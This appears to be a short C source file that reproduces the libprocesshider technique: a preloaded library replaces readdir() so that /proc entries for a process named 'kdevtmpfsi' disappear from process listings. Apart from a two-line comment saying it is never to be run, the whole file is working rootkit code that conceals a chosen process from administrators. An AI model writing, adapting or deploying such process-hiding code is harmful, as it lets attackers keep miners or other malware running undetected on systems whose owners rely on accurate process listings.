/* The libprocesshider shape: readdir is replaced so that entries of /proc whose process
   has a chosen name are skipped. Never run. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char *hidden = "kdevtmpfsi";

static int dir_name(DIR *d, char *buf, size_t n) {
	char p[64];
	snprintf(p, sizeof p, "/proc/self/fd/%d", dirfd(d));
	ssize_t r = readlink(p, buf, n - 1);
	if (r < 0) return 0;
	buf[r] = 0;
	return 1;
}

static int proc_name(const char *pid, char *buf, size_t n) {
	char p[256];
	snprintf(p, sizeof p, "/proc/%s/stat", pid);
	FILE *f = fopen(p, "r");
	if (!f) return 0;
	int ok = fscanf(f, "%*d (%255[^)]s", buf) == 1;
	fclose(f);
	return ok;
}

struct dirent *readdir(DIR *d) {
	struct dirent *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir");
	struct dirent *e;
	char dn[256], pn[256];
	while ((e = real(d)) != NULL) {
		if (dir_name(d, dn, sizeof dn) && strcmp(dn, "/proc") == 0 && proc_name(e->d_name, pn, sizeof pn) && strcmp(pn, hidden) == 0)
			continue;
		break;
	}
	return e;
}
